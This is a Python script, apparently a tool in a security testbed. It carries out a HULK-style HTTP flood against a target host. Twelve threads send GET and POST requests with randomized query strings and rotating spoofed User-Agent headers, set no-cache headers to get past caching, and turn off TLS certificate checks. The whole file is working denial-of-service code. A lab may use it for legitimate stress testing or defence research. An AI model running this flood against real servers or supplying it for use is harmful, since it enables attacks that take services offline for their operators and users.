"""Ask for pages as fast as the server allows, each with a query and headers of its own, as HULK does."""

import contextlib
import http.client
import ssl
from concurrent.futures import ThreadPoolExecutor
from random import Random

from testbed.second_home.tools.bounds import arguments, rounds

AGENTS = (
    "Mozilla/5.0 (X11; U; Linux)",
    "Mozilla/5.0 (Windows NT 6.1)",
    "Opera/9.80",
    "Mozilla/4.0 (compatible; MSIE 8.0)",
)
PATHS = ("/", "/login.html", "/style.css", "/config", "/settings", "/history")
AT_ONCE = 12


def ask(target: str, secure: bool, draw: Random) -> None:
    """One connection, one to three requests."""
    kind = http.client.HTTPSConnection if secure else http.client.HTTPConnection
    more = {"context": ssl._create_unverified_context()} if secure else {}
    connection = kind(target, timeout=4, **more)
    with contextlib.suppress(OSError, http.client.HTTPException):
        for _ in range(draw.choice((1, 1, 1, 2, 3))):
            path = f"{draw.choice(PATHS)}?{draw.getrandbits(40):x}={draw.getrandbits(40):x}"
            headers = {"User-Agent": draw.choice(AGENTS), "Cache-Control": "no-cache", "Referer": f"http://{target}/"}
            connection.request(draw.choice(("GET", "GET", "GET", "POST")), path, headers=headers)
            connection.getresponse().read()
    connection.close()


def main() -> None:
    """Flood; the time bounds when the last request is begun."""
    options = arguments(__doc__, "how")
    with ThreadPoolExecutor(AT_ONCE) as pool:
        for draw in rounds(options):
            pool.submit(ask, options.target, options.how == "tls", Random(draw.random()))


if __name__ == "__main__":
    main()
